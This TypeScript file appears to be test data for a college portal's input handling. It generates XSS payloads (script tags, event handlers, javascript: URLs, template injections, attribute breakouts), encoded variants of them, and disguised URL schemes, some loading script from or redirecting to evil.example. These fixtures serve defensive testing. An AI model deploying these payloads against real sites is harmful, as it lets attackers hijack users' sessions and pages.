/** Code that somebody who can write into a record would want a browser to run. */
const code = 'alert(1)'

const vectors = [
  `<script>${code}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<img src=x onerror=${code}>`,
  `<svg onload=${code}>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${code}></style></mglyph></math>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<iframe src=javascript:${code}></iframe>`,
  `<object data=javascript:${code}></object>`,
  `<embed src=javascript:${code}>`,
  `<a href=javascript:${code}>x</a>`,
  `<form action=javascript:${code}><button>x</button></form>`,
  `<button formaction=javascript:${code}>x</button>`,
  `<input autofocus onfocus=${code}>`,
  `<details open ontoggle=${code}>x</details>`,
  `<video><source onerror=${code}></video>`,
  `<body onload=${code}>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>*{background:url(https://evil.example/)}</style>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<template><script>${code}</script></template>`,
  `" autofocus onfocus=${code} x="`,
  `' onmouseover=${code} '`,
  `"><img src=x onerror=${code}>`,
  `'><svg onload=${code}>`,
  `</title><script>${code}</script>`,
  `</textarea><script>${code}</script>`,
  `</script><script>${code}</script>`,
  `--><script>${code}</script>`,
  `]]><script>${code}</script>`,
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `<%= ${code} %>`,
  `<x onpointerrawupdate=${code} style=position:fixed;inset:0>`,
  `<dialog open onclose=${code}><form method=dialog><button autofocus>x`,
]

const encodings: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => vector.toUpperCase(),
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (vector) => encodeURIComponent(vector),
  (vector) => vector.replaceAll('<', '<\u0000'),
  (vector) => vector.replaceAll(' ', '/\t\n'),
]

/** Every vector in every encoding. */
export const hostileTexts: readonly string[] = vectors.flatMap((vector) => encodings.map((encode) => encode(vector)))

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'vbscript:',
  'data:text/html,',
  'data:text/html;base64,',
  'file:///etc/passwd?',
  'blob:',
  'view-source:',
  'jar:',
  'about:blank#',
  'mailto:',
  'tel:',
]
const disguises: ((address: string) => string)[] = [
  (address) => address,
  (address) => ` ${address}`,
  (address) => `\u0001${address}`,
  (address) => address.replace(':', '\t:'),
  (address) => address.replace(/^(.)/, '$1\n'),
  (address) => address.replace(':', '&colon;'),
  (address) => `${address}//https://college.example`,
  (address) => `${address}%0ahttps://college.example/`,
]

/** Addresses that no link of the portal may have: other schemes in disguise, and texts that are not addresses. */
export const hostileAddresses: readonly string[] = [
  ...schemes.flatMap((scheme) => disguises.map((disguise) => disguise(`${scheme}${code}`))),
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  'https:',
  'http://',
  'https://[',
  `"onclick="${code}`,
  '',
]
